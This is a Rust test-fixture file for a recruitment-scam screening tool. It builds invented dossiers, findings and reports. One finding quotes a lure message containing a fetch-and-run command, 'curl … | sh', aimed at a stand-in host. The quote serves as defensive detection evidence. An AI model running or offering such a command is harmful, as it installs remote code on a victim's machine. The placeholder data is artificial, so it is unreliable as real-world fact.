//! An invented outcome: one person to verify before deciding, one to look at, one clean, one of whom little is known.

use falseface::dossier::{Date, InputDigest, Locator, Quote, Rejected, Role, Section, Skipped};
use falseface::report::{self, Format, Style};
use falseface::score::{THRESHOLDS, verdict, weigh};
use falseface::screening::{
    Assessment, Cluster, Derived, Detector, DetectorResult, Differences, Evidence, Finding, Level, Observable,
    PerDetector, RuleInfo, Run, Screened, Screening, SubjectLine, Tie, TimelineEntry, Verdict,
};
use std::sync::Arc;

pub(crate) fn date(text: &str) -> Date {
    text.parse().expect("a date")
}

pub(crate) fn run() -> Run {
    Run {
        tool: "falseface 0.1.0".to_owned(),
        rules_digest: "9c1e41ab00112233445566778899aabbccddeeff00112233445566778899aabb".to_owned(),
        rules_count: 214,
        rules_off: Vec::new(),
        now: date("2026-11-24"),
        thresholds: THRESHOLDS,
        weights: "built-in".to_owned(),
        detectors: Detector::ALL.to_vec(),
        geoip: Vec::new(),
        watchlists: Vec::new(),
        index: None,
        joining: None,
        suppressions: None,
        baseline: None,
        is_redacted: false,
        configured: None,
    }
}

struct Rule {
    name: &'static str,
    family: &'static str,
    title: &'static str,
    weights: [Option<f64>; 3],
    others: &'static [&'static str],
    verify: &'static str,
}

fn finding(rule: &Rule, evidence: Vec<Evidence>) -> Finding {
    let greatest = rule.weights.iter().flatten().copied().fold(0.0, f64::max);
    Finding {
        rule: Arc::new(RuleInfo {
            name: rule.name.to_owned(),
            id: "5b0a4a5e-8c0f-4a53-9a53-0c6f3d9b7f11".to_owned(),
            version: "2026-11-24".to_owned(),
            title: rule.title.to_owned(),
            level: Level::of_weight(greatest),
            family: rule.family.to_owned(),
            weights: PerDetector(rule.weights),
            falsepositives: rule.others.iter().map(|&other| other.to_owned()).collect(),
            verify: rule.verify.to_owned(),
            tags: vec!["attack.t1566.003".to_owned()],
            offsets: if greatest > 0.0 { Vec::new() } else { vec!["contact".to_owned()] },
            ..RuleInfo::default()
        }),
        element: "/messages/0".to_owned(),
        count: evidence.iter().map(|piece| &piece.pointer).collect::<std::collections::BTreeSet<_>>().len().max(1),
        fingerprint: "0011223344556677".to_owned(),
        evidence,
    }
}

fn quote(label: &str, pointer: &str, before: &str, quote: &str, after: &str, start: usize) -> Evidence {
    Evidence {
        pointer: pointer.to_owned(),
        start,
        end: start + quote.len(),
        quote: quote.to_owned(),
        before: before.to_owned(),
        after: after.to_owned(),
        label: label.to_owned(),
        ..Evidence::default()
    }
}

fn paste() -> Finding {
    let command = quote(
        "message 5 · email",
        "/messages/4/text",
        "the camera driver is out of date. Please open Terminal and paste:  ",
        "curl -s https://cam-fix.example/i | sh",
        "  to restore video",
        220,
    );
    let command = Evidence {
        at: Some(date("2026-09-18T08:11:00Z")),
        observable: Some(Observable { kind: "url", value: "https://cam-fix.example/i".to_owned() }),
        ..command
    };
    let rule = Rule {
        name: "lure-paste-command",
        family: "conduct",
        title: "Asks to paste a command to repair a camera",
        weights: [Some(10.0), None, Some(5.0)],
        others: &["Real support."],
        verify: "Ask the employer's IT, through its switchboard.",
    };
    finding(&rule, vec![command])
}

fn archive() -> Finding {
    let rule = Rule {
        name: "lure-archive-password",
        family: "conduct",
        title: "Sends an encrypted archive before any interview",
        weights: [Some(5.0), None, None],
        others: &["Firms whose mail filter blocks archives"],
        verify: "Ask for the document in the body of a mail.",
    };
    let password = "password for the file is Job2026";
    finding(&rule, vec![quote("message 3 · linkedin", "/messages/2/text", "The ", password, ".", 4)])
}

fn offplatform() -> Finding {
    let rule = Rule {
        name: "lure-offplatform-early",
        family: "conduct",
        title: "Asks to leave the platform at first contact",
        weights: [Some(5.0), None, Some(4.0)],
        others: &["Countries where a messenger is how recruiters work."],
        verify: "Ask for a message from an address at the employer's own domain, then call its switchboard.",
    };
    let place = |number: usize, words: &str| {
        quote(&format!("message {number} · linkedin"), &format!("/messages/{}/text", number - 1), "", words, "", 0)
    };
    finding(
        &rule,
        vec![place(1, "Let us go on in Telegram"), place(2, "write me on Telegram"), place(3, "Telegram is faster")],
    )
}

fn lookalike() -> Finding {
    let rule = Rule {
        name: "dom-lookalike",
        family: "contact",
        title: "Mail domain resembles the named employer's",
        weights: [Some(10.0), None, Some(5.0)],
        others: &["An agency's registered domain"],
        verify: "Compare with the domain on the employer's own site.",
    };
    let address = "ana@examp1e-aerospace.example";
    let computed = Evidence {
        derived: Some(Derived {
            field: "contact.lookalike_of",
            value: "example-aerospace.example".to_owned(),
            from: vec!["/contacts/0/value".to_owned(), "/employment/0/employer/domain".to_owned()],
        }),
        ..quote("contact 1", "/contacts/0/value", "", address, "", 0)
    };
    let young = Evidence {
        derived: Some(Derived {
            field: "contact.domain_age_days",
            value: "19".to_owned(),
            from: vec!["/domains/0/created_at".to_owned(), "/run/now".to_owned()],
        }),
        ..quote("contact 1", "/contacts/0/value", "", address, "", 0)
    };
    finding(&rule, vec![computed, young])
}

fn dkim() -> Finding {
    let rule = Rule {
        name: "ok-employer-mail",
        family: "contact",
        title: "An earlier mail came from the employer's own domain, signed",
        weights: [Some(-3.0), None, Some(-3.0)],
        others: &["A mailbox that was taken over"],
        verify: "Answer to that address.",
    };
    finding(&rule, vec![quote("message 4 · email", "/messages/3/mail/dkim", "", "pass", "", 0)])
}

fn context() -> Finding {
    let rule = Rule {
        name: "ctx-no-careers-page",
        family: "employer",
        title: "The employer's site has no page of vacancies",
        weights: [Some(0.0), None, Some(0.0)],
        others: &[],
        verify: "",
    };
    let absent = Evidence {
        pointer: "/organisations/0".to_owned(),
        quote: "false".to_owned(),
        end: 5,
        label: "organisation 1".to_owned(),
        expected: Some("organisation.careers_page: true".to_owned()),
        ..Evidence::default()
    };
    finding(&rule, vec![absent])
}

fn payee() -> Finding {
    let rule = Rule {
        name: "pay-other-payee",
        family: "payment",
        title: "Payee differs from applicant",
        weights: [None, Some(8.5), None],
        others: &["A spouse's account", "An umbrella company"],
        verify: "Ask who the payee is, and for the contract that names them.",
    };
    finding(&rule, vec![quote("payment 1", "/payments/0/payee", "", "B. Sample", "", 0)])
}

/// What a detector says of the findings.
pub(crate) fn seen(assessment: &Assessment, detector: Detector) -> DetectorResult {
    let screened = &assessment.screened;
    weigh(&screened.findings, detector, &THRESHOLDS, screened.core[detector])
}

fn assessed(screened: Screened) -> Assessment {
    let mut assessment = Assessment {
        screened,
        verdict: Verdict::Insufficient,
        detectors: PerDetector::default(),
        clusters: Vec::new(),
        earlier: Vec::new(),
        change: None,
    };
    assessment.detectors = PerDetector::from_fn(|detector| Some(seen(&assessment, detector)));
    assessment.verdict = verdict(&assessment.detectors);
    assessment
}

fn record(id: &str, line: u64, role: Role, name: Option<&str>) -> Screened {
    Screened {
        dossier: id.to_owned(),
        source: Locator { line: Some(line), ..Locator::file("inbox.jsonl") },
        role,
        subject: SubjectLine { name: name.map(str::to_owned), headline: None },
        core: PerDetector([true, false, true]),
        coverage: PerDetector([0.638, 0.1, 0.5]),
        missing: PerDetector([
            vec![Section::Domains, Section::Photos],
            vec![Section::Payments],
            vec![Section::JobPosts],
        ]),
        ..Screened::default()
    }
}

pub(crate) fn suspicious() -> Assessment {
    let mut screened = record("inbox-0007", 7, Role::Recruiter, Some("Ana Example"));
    screened.subject.headline = Some("Senior Talent Partner at Example Aerospace".to_owned());
    screened.findings = vec![context(), lookalike(), archive(), offplatform(), paste(), dkim()];
    screened.timeline = vec![TimelineEntry {
        at: date("2026-09-18T08:11:00Z"),
        pointer: "/messages/4".to_owned(),
        label: "message 5 · email".to_owned(),
        rules: vec!["lure-paste-command".to_owned()],
    }];
    let mut assessment = assessed(screened);
    assessment.clusters = vec!["c-5f1d".to_owned()];
    assessment
}

fn contractor() -> Assessment {
    let mut screened = record("staff-12", 12, Role::Contractor, None);
    screened.core = PerDetector([false, true, false]);
    screened.findings = vec![payee()];
    assessed(screened)
}

pub(crate) fn clean() -> Assessment {
    assessed(record("inbox-0008", 8, Role::Counterparty, Some("Bo Sample")))
}

fn unseen() -> Assessment {
    let mut screened = record("inbox-0009", 9, Role::Unknown, Some("Cy Specimen"));
    screened.core = PerDetector::default();
    assessed(screened)
}

pub(crate) fn screening() -> Screening {
    let mut screening = Screening::new(run());
    screening.assessments = vec![suspicious(), clean(), unseen(), contractor()];
    let side = |dossier: &str| Quote {
        dossier: dossier.to_owned(),
        pointer: "/contacts/1/value".to_owned(),
        start: 0,
        end: 15,
        quote: "+1 202 555 0142".to_owned(),
    };
    screening.clusters = vec![Cluster {
        id: "c-5f1d".to_owned(),
        members: vec!["inbox-0007".to_owned(), "inbox-0010".to_owned()],
        names: vec!["Ana Example".to_owned(), "Bea Sample".to_owned()],
        differences: Differences { identities: 2, ..Differences::default() },
        ties: vec![Tie {
            a: "inbox-0007".to_owned(),
            b: "inbox-0010".to_owned(),
            kind: "phone".to_owned(),
            strength: 10.0,
            evidence: vec![side("inbox-0007"), side("inbox-0010")],
        }],
    }];
    screening.rejected = vec![Rejected {
        source: Locator { line: Some(13), pointer: Some("/payments/0/at".into()), ..Locator::file("inbox.jsonl") },
        reason: "could not read the date \"soon\" (expected YYYY, YYYY-MM, YYYY-MM-DD or RFC 3339)".to_owned(),
    }];
    screening.skipped = vec![Skipped { source: Locator::file("notes.txt"), reason: "not an export".to_owned() }];
    let summary = &mut screening.summary;
    (summary.dossiers, summary.rejected, summary.skipped) = (4, 1, 1);
    for assessment in &screening.assessments {
        *summary.by_verdict.entry(assessment.verdict).or_default() += 1;
    }
    summary.dropped_fields.insert("birth_date".to_owned(), 3);
    summary.unknown_fields.insert("/subject/shoe_size".to_owned(), 1);
    summary.inputs = vec![InputDigest {
        source: Locator::file("inbox.jsonl"),
        sha256: "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff".to_owned(),
    }];
    screening
}

/// A report, told of assessments or of what threads made of them.
pub(crate) fn bytes(screening: &Screening, format: Format, style: Style, by_workers: bool) -> Vec<u8> {
    let mut bytes = Vec::new();
    let render = format.renderer(style, screening.run.thresholds, screening.run.now);
    let mut report = report::open(format, &mut bytes, style);
    report.begin(&screening.run).expect("memory takes everything");
    for assessment in &screening.assessments {
        if by_workers {
            let mut piece = Vec::new();
            render(assessment, &mut piece);
            report.rendered(assessment.screened.role, &piece).expect("memory takes everything");
        } else {
            report.assessment(assessment).expect("memory takes everything");
        }
    }
    for cluster in &screening.clusters {
        report.cluster(cluster).expect("memory takes everything");
    }
    for hub in &screening.hubs {
        report.hub(hub).expect("memory takes everything");
    }
    for rejected in &screening.rejected {
        report.rejected(rejected).expect("memory takes everything");
    }
    for skipped in &screening.skipped {
        report.skipped(skipped).expect("memory takes everything");
    }
    report.end(&screening.summary).expect("memory takes everything");
    drop(report);
    bytes
}
